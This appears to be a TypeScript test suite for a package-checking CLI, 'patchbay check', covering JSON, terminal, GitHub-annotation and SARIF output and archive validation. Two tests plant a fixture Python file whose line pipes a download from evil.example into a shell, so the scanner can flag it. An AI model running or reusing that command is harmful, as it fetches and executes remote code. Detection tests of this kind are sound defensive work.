import assert from 'node:assert/strict';
import { join } from 'node:path';
import { suite, test } from 'node:test';
import { zip } from '../../../server/test/support/build.ts';
import { writeFiles } from '../support/make-folder.ts';
import { makeProject } from '../support/make-project.ts';
import { openCli } from '../support/open-cli.ts';

const url = 'http://127.0.0.1:9';
const ids = { nodeId: 'tools', publisherId: 'ada' };

suite('patchbay check', () => {
  test('--json: the verdict of the checks, and the app-nodes', async (t) => {
    const cli = await openCli(t, { url });
    const { code, result } = await cli.json(['check', await makeProject(cli.cwd, ids)]);
    assert.equal(code, 0, JSON.stringify(result));
    assert.deepEqual([result.data.outcome, result.data.extraction.app_nodes], ['passed', ['Resize']]);
  });

  test('in a terminal: what was found, with its place and what to do', async (t) => {
    const cli = await openCli(t, { url });
    const files = { 'lib/evil.py': 'import os\nos.system("curl https://evil.example/x | sh")\n' };
    const { code, stdout } = await cli.inTerminal(['check', await makeProject(cli.cwd, { ...ids, files })]);
    assert.equal(code, 1);
    assert.match(stdout, /^error {2}lib\/evil\.py:2 {2}.+\n.+curl.+\n/m);
    assert.match(stdout, /tools 1\.0\.0: The registry would hold it for a moderator\. 1 app-node\./);
  });

  test('a zip, whose pyproject.toml says what it is', async (t) => {
    const cli = await openCli(t, { url });
    const toml = '[project]\nname = "tools"\nversion = "2.0.0"\n[tool.patchbay]\nPublisherId = "ada"\n';
    await writeFiles(cli.cwd, {
      'good.zip': await zip({ 'pyproject.toml': toml, 'a.py': '' }),
      'bad.zip': await zip({ 'pyproject.toml': toml, '.hidden ': '', '.HIDDEN': '' }),
      'bare.zip': await zip({ 'a.py': '' }),
    });
    const good = await cli.json(['check', 'good.zip']);
    assert.deepEqual([good.code, good.result.data.version], [0, '2.0.0']);
    const bad = await cli.json(['check', 'bad.zip']);
    assert.deepEqual([bad.code, bad.result.error.code], [1, 'invalid_package']);
    assert.deepEqual((await cli.json(['check', 'bare.zip'])).result.error.code, 'no_project');
  });

  test('what the archive rules refuse is refused before anything is sent', async (t) => {
    const cli = await openCli(t, { url });
    const toml = '[project]\nname = "tools"\nversion = "2.0.0"\n[tool.patchbay]\nPublisherId = "ada"\n';
    await writeFiles(cli.cwd, { 'twins.zip': await zip({ 'pyproject.toml': toml, 'a.py': 'def (\n' }) });
    const { code, stdout } = await cli.run(['check', 'twins.zip', '--publisher', 'No Id']);
    assert.equal(code, 1);
    assert.match(stdout, /refused {2}The publisher "No Id" is no id/);
    assert.match(stdout, /The registry would refuse it/);
  });

  test('--format: annotations of GitHub, and SARIF, at the places from the current folder', async (t) => {
    const cli = await openCli(t, { url });
    const files = { 'lib/a,b.py': 'import os\nos.system("curl https://evil.example/x | sh")\n' };
    await makeProject(cli.cwd, { ...ids, files });
    const github = await cli.run(['check', 'tools', '--format', 'github']);
    assert.equal(github.code, 1);
    assert.match(
      github.stdout,
      /^::error file=tools\/lib\/a%2Cb\.py,line=2,title=patchbay%3A download-to-shell::A command downloads/m,
    );
    const { code, stdout } = await cli.run(['check', 'tools', '--format', 'sarif']);
    assert.equal(code, 1);
    const { version, runs } = JSON.parse(stdout);
    const { tool, results } = runs[0];
    assert.equal(version, '2.1.0');
    const result = results.find(({ ruleId }: { ruleId: string }) => ruleId === 'download-to-shell');
    assert.equal(result.level, 'error');
    assert.deepEqual(result.locations[0].physicalLocation, {
      artifactLocation: { uri: 'tools/lib/a,b.py', uriBaseId: '%SRCROOT%' },
      region: { startLine: 2 },
    });
    assert.ok(tool.driver.rules.some(({ id }: { id: string }) => id === 'download-to-shell'));
    assert.equal((await cli.json(['check', 'tools', '--format', 'sarif'])).result.error.code, 'usage');
  });

  test('2: there is nothing of that name', async (t) => {
    const cli = await openCli(t, { url });
    const { code, result } = await cli.json(['check', join(cli.cwd, 'nowhere')]);
    assert.deepEqual([code, result.error.code], [2, 'no_project']);
  });
});
